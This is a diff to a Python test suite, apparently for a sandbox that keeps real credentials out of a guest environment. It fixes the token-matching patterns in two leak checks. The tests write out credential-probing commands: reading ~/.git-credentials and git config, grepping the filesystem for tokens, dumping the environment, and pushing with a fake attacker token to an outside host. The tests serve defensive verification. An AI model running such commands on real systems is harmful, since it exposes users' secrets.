@@ -308,7 +308,7 @@ class Guest(unittest.TestCase):
         self.sh("cd /tmp/p && git push -q https://evil:ghp_attackers0000000000000000000000000000@gist.github.com/private.git HEAD:other")
         self.assertEqual(self.git.log_of("other"), ["second", "first"])
         self.assertFalse([a for _, _, a in self.git.seen if not a or "attackers" in base64.b64decode(a[6:]).decode()])
-        found = self.sh("cat /tmp/p/.git/config ~/.git-credentials 2>/dev/null; grep -rl -e 'realTOKEN[0]123456789' /tmp /home /root 2>/dev/null || true")
+        found = self.sh("cat /tmp/p/.git/config ~/.git-credentials 2>/dev/null; grep -rl -e 'realTOKEN[0-9]123456789' /tmp /home /root 2>/dev/null || true")
         self.assertNotIn("realTOKEN", found)
 
     def test_aws_requests_are_signed_anew(self):
@@ -353,7 +353,7 @@ class Guest(unittest.TestCase):
         self.sh("curl -sS https://api.openai.com/split -o /tmp/answer; curl -sS https://github.com/x.git/info/refs -o /tmp/two; sync; env > /tmp/env")
         time.sleep(0.5)
         h = self.h
-        found = self.sh("grep -rl -e 'real/KEY_[0]123456789' -e 'realTOKEN[0]123456789' / --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr 2>/dev/null || true")
+        found = self.sh("grep -rl -e 'real/KEY_[0-9]123456789' -e 'realTOKEN[0-9]123456789' / --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr 2>/dev/null || true")
         self.assertEqual(found.strip(), "")
         for path in h.dir.rglob("*"):
             if path.is_file() and not path.is_symlink() and "ca" not in path.parts:
